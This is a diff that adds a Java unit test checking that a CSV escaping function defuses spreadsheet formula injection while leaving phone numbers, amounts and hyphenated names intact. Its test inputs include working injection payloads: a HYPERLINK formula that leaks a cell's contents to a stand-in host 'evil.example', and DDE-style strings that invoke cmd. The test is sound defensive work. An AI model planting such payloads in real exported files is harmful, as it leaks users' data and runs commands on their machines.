@@ -353,6 +353,20 @@ class BundleFilesTest {
                 + "\"line one\nline two\",,confirmed");
   }
 
+  @Test
+  void aValueASpreadsheetWouldRunAsAFormulaIsWrittenAsTextButNumbersAndPhonesAreNot() {
+    assertThat(RecordCsv.escape("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")"))
+        .isEqualTo("\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"click\"\")\"");
+    assertThat(RecordCsv.escape("@SUM(1+1)*cmd|' /C calc'!A0"))
+        .isEqualTo("'@SUM(1+1)*cmd|' /C calc'!A0");
+    assertThat(RecordCsv.escape("+1+1")).isEqualTo("'+1+1");
+    assertThat(RecordCsv.escape("-2+3+cmd|' /C calc'!A0")).isEqualTo("'-2+3+cmd|' /C calc'!A0");
+    assertThat(RecordCsv.escape("\t=1+1")).isEqualTo("'\t=1+1");
+    assertThat(RecordCsv.escape("+44 20 7946 0958")).isEqualTo("+44 20 7946 0958");
+    assertThat(RecordCsv.escape("-12.50")).isEqualTo("-12.50");
+    assertThat(RecordCsv.escape("Ana-Maria")).isEqualTo("Ana-Maria");
+  }
+
   private static List<String> fieldNames(JsonNode node) {
     List<String> names = new ArrayList<>();
     node.fieldNames().forEachRemaining(names::add);
